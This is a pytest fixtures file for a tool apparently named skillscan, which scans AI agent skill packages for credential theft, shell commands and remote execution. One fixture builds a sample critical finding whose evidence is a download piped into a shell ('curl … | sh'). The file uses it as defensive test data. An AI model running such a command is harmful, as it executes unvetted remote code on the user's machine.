"""Shared fixtures. Services are real: a test that needs one skips with a clear reason when absent."""

from __future__ import annotations

import socket
import uuid
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from tree_sitter import Node

from skillscan.analyzers.delivery import DeliveryCatalog
from skillscan.analyzers.treesitter import Checks, NodeDispatcher, TreeSitterAnalyzer, load_checks
from skillscan.analyzers.treesitter.flow_engine import Engine
from skillscan.analyzers.treesitter.flow_facts import constants_of
from skillscan.analyzers.treesitter.flow_model import PY, Lang
from skillscan.analyzers.treesitter.flow_unit import Unit
from skillscan.analyzers.treesitter.flows import CredentialFlows
from skillscan.analyzers.treesitter.registry import FileContext, Hit, SkillContext
from skillscan.analyzers.treesitter.scan_shapes import ShapeMemo
from skillscan.models import (
    Category,
    Decision,
    FileEntry,
    FileKind,
    Finding,
    ScanError,
    ScanReport,
    Severity,
    Skill,
    SkillFile,
    SkillIdentity,
    Verdict,
)

REPO_ROOT = Path(__file__).resolve().parent.parent
SHARED_CORPUS = REPO_ROOT.parent / "shared" / "corpus"
PG_URL = "postgresql+psycopg://postgres@127.0.0.1:5432/test"


def skill_context(*scripts: tuple[str, FileKind, str]) -> SkillContext:
    """A skill of these scripts (path, kind, text) as the tree-sitter engine hands it to its checks:
    the delivery catalogue loaded and a `FileContext` per file (`.files`)."""
    files = tuple(
        SkillFile(path=path, kind=kind, data=text.encode(), sha256="0" * 64, text=text)
        for path, kind, text in scripts
    )
    ctx = SkillContext(
        skill=Skill(source="test", identity=SkillIdentity(), files=files), catalog=DeliveryCatalog.load()
    )
    ctx.files = [FileContext(file=f, skill=ctx) for f in files]
    return ctx


def flow_script(text: str, lang: Lang) -> SkillContext:
    """A skill of one script of `lang` (Python or JavaScript), as the flow checks read it."""
    kind, path = (FileKind.PYTHON, "scripts/a.py") if lang is PY else (FileKind.JAVASCRIPT, "scripts/a.js")
    return skill_context((path, kind, text))


def flow_engine(text: str, lang: Lang) -> Engine:
    """The taint engine of one script, its path variables settled (as `flows` runs it)."""
    u = Unit.of(flow_script(text, lang).files[0], lang)
    assert u is not None
    engine = Engine([u], constants_of([u]))
    engine.settle_paths()
    return engine


def flow_rules(text: str, lang: Lang) -> list[tuple[str, int | None]]:
    """(rule, line) of each credential-flow finding of one script, in order."""
    return sorted((h.rule_id, h.line) for h in CredentialFlows().check_skill(flow_script(text, lang)))


class _NodeByNode:
    """A check fed node by node (`visit`): no text screen, nothing remembered, nothing counted."""

    def __init__(self, check: Any) -> None:
        self._check = check
        self.languages, self.node_types, self.needles = check.languages, check.node_types, check.needles

    def visit(self, node: Node, ctx: FileContext) -> Iterable[Hit]:
        return self._check.visit(node, ctx)  # type: ignore[no-any-return]


def python_call_analyzer(node_by_node: bool) -> TreeSitterAnalyzer:
    """The engine with only the Python call checks (shell commands, dynamic exec): through the
    call pass, or fed node by node (every call judged on its own, the reference)."""
    analyzer = TreeSitterAnalyzer()
    mine = [c for c in load_checks().node if type(c).__name__ in ("PythonShellCommand", "PythonDynamicExec")]
    checks = [_NodeByNode(c) for c in mine] if node_by_node else mine
    analyzer._checks = Checks(tuple(checks), (), ())
    analyzer._dispatcher = NodeDispatcher(checks)
    return analyzer


@contextmanager
def counting_replays() -> Iterator[list[int]]:
    """Statements replayed from shapes (`ShapeMemo.replay`) while the block runs."""
    replayed = [0]
    real = ShapeMemo.replay

    def spy(self: ShapeMemo, *args: object, **kwargs: object) -> tuple[int, int]:
        n, cost = real(self, *args, **kwargs)  # type: ignore[arg-type]
        replayed[0] += n
        return n, cost

    with mock.patch.object(ShapeMemo, "replay", spy):
        yield replayed


def free_port() -> int:
    """A loopback port nobody listens on right now (the OS picks it)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def port_open(host: str, port: int, timeout: float = 0.5) -> bool:
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError:
        return False


def postgres_schema_url() -> Iterator[str]:
    """A database URL on a fresh schema of the local PostgreSQL, dropped afterwards; skips when
    there is no usable server."""
    from sqlalchemy import create_engine, text

    if not port_open("127.0.0.1", 5432):
        pytest.skip("PostgreSQL is not reachable on 127.0.0.1:5432")
    schema = f"skillscan_test_{uuid.uuid4().hex[:10]}"
    admin = create_engine(PG_URL)
    try:
        with admin.begin() as conn:
            conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    except Exception as e:  # a reachable port that is not a usable database
        admin.dispose()
        pytest.skip(f"PostgreSQL at 127.0.0.1:5432 database 'test' is not usable: {e}")
    try:
        yield f"{PG_URL}?options=-csearch_path%3D{schema}"
    finally:
        with admin.begin() as conn:
            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
        admin.dispose()


def make_report(
    slug: str = "weather",
    version: str = "1.0.0",
    owner: str = "alice",
    fingerprint: str = "f" * 64,
    ruleset: str = "r1",
    verdict: Verdict = Verdict.CLEAN,
) -> ScanReport:
    """A scan report to store: clean without findings; otherwise one critical finding (and, when
    indeterminate, an engine timeout)."""
    findings: tuple[Finding, ...] = ()
    if verdict is not Verdict.CLEAN:
        findings = (
            Finding(
                rule_id="download-pipe-shell",
                analyzer="treesitter",
                category=Category.REMOTE_EXEC,
                severity=Severity.CRITICAL,
                path="SKILL.md",
                line=12,
                message="pipes a download into a shell",
                evidence="curl https://example.com/x | sh",
            ),
        )
    return ScanReport(
        skill=SkillIdentity(owner=owner, slug=slug, version=version, name=slug, fingerprint=fingerprint),
        source=f"clawhub:@{owner}/{slug}@{version}",
        files=(FileEntry(path="SKILL.md", kind=FileKind.MARKDOWN, size=10, sha256="a" * 64),),
        findings=findings,
        errors=(ScanError(analyzer="semgrep", path=None, detail="timeout", timed_out=True),)
        if verdict is Verdict.INDETERMINATE
        else (),
        verdict=verdict,
        decision=Decision.BLOCK if verdict is Verdict.MALICIOUS else Decision.ALLOW,
        reason="test",
        tool_version="0.1.0",
        ruleset_digest=ruleset,
        timings={"total": 0.5},
    )


@pytest.fixture(scope="session")
def shared_corpus() -> Path:
    if not (SHARED_CORPUS / "MANIFEST.tsv").is_file():
        pytest.skip(f"labelled corpus not found at {SHARED_CORPUS}")
    return SHARED_CORPUS


@pytest.fixture(scope="session")
def redis_available() -> None:
    if not port_open("127.0.0.1", 6379):
        pytest.skip("Redis is not reachable on 127.0.0.1:6379 (.ci/run starts it)")
